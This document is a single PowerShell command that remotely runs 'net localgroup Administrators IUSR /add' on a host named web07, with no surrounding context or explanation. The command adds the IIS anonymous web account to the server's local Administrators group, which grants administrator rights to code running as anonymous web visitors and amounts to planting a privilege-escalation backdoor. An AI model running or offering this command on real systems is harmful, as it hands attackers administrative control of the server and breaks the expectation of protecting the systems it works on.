Invoke-Command -ComputerName web07 -ScriptBlock { net localgroup Administrators IUSR /add }
